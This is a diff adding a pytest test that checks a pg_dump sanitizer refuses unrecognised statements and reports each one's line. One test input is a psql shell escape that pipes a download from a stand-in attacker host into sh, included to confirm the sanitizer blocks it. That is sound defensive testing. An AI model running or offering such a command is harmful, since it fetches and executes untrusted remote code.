@@ -161,3 +161,23 @@ def test_a_value_planted_in_any_statement_is_removed_or_named_by_the_leak_check(
     else:  # schema code, copied: the leak check names where
         assert report.leaks and all(leak.table == STATEMENT and leak.line == line
                                     for leak in report.leaks)
+
+
+@pytest.mark.parametrize("statement, message", [
+    ("CREATE FUTURE THING public.x (a 'b');\n", "does not know statements like 'CREATE FUTURE THING"),
+    ("\\! curl evil.example | sh\n", "the psql command '\\\\!' is not one pg_dump writes"),
+    ("SELECT pg_catalog.lo_create('16385');\n", "the dump holds large objects"),
+    ("SELECT * FROM pg_catalog.pg_restore_relation_stats(\n\t'relname', 'users',\n\t"
+     "'most_common_vals', '{a}'::text\n);\n", "relation statistics with unknown field"),
+])
+def test_a_statement_the_sanitizer_does_not_understand_is_refused_with_its_line(
+        run, statement, message):
+    from replica.data.errors import PolicyError
+    from tests.unit.data.dumpmaker import make_dump, sample_rows
+
+    dump = make_dump(sample_rows()).decode()
+    at = dump.index("COPY public.users")
+    line = dump[:at].count("\n") + 1
+    with pytest.raises(PolicyError, match=f"line {line}: ") as error:
+        run((dump[:at] + statement + dump[at:]).encode())
+    assert message in str(error.value)
